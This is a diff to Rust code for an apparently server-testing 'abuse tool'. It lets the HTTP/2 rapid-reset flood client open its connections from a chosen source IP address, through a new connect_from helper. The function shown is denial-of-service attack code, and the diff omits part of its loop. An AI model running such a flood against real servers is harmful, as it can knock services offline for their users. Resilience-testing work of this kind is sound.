@@ -1,6 +1,6 @@
 //! The clients of the abuse tool: the well-behaved one that measures, and the attackers.
 
-use std::net::SocketAddr;
+use std::net::{IpAddr, SocketAddr};
 use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
 use std::sync::Arc;
 use std::time::{Duration, Instant};
@@ -118,12 +118,12 @@ pub struct Flood {
 }
 
 /// Opens HTTP/2 streams and resets each at once, as fast as it can, on one connection at a
-/// time (a new one when the server closes it), until `stop`.
-pub async fn rapid_reset(addr: SocketAddr, stop: Arc<AtomicBool>) -> Flood {
+/// time (a new one when the server closes it), from the address `source`, until `stop`.
+pub async fn rapid_reset(addr: SocketAddr, source: IpAddr, stop: Arc<AtomicBool>) -> Flood {
     let resets = AtomicU64::new(0);
     let mut flood = Flood::default();
     while !stop.load(Ordering::Relaxed) {
-        let Ok(tcp) = TcpStream::connect(addr).await else {
+        let Ok(tcp) = connect_from(source, addr).await else {
             tokio::time::sleep(Duration::from_millis(10)).await;
             continue;
         };
@@ -158,6 +158,16 @@ pub async fn rapid_reset(addr: SocketAddr, stop: Arc<AtomicBool>) -> Flood {
     }
     flood.resets = resets.load(Ordering::Relaxed);
     flood
+}
+
+/// A connection to `addr` from the address `source` (any port).
+async fn connect_from(source: IpAddr, addr: SocketAddr) -> std::io::Result<TcpStream> {
+    let socket = match source {
+        IpAddr::V4(_) => tokio::net::TcpSocket::new_v4()?,
+        IpAddr::V6(_) => tokio::net::TcpSocket::new_v6()?,
+    };
+    socket.bind(SocketAddr::new(source, 0))?;
+    socket.connect(addr).await
 }
 
 /// Opens `count` connections, makes one HTTP/1.1 call on each and keeps them open, idle.
